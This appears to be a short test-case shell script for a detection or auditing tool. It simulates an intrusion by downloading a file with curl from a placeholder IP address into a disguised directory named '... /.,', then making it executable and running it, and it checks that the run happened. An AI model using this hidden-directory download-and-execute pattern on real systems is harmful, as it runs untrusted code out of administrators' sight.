#!/bin/sh
. /opt/case/case.sh

mkdir -p '/var/spool/... /.,'
curl -s http://203.0.113.10/programs/marker -o '/var/spool/... /.,/m'
chmod +x '/var/spool/... /.,/m'
'/var/spool/... /.,/m'
test -e /tmp/reached
took_place
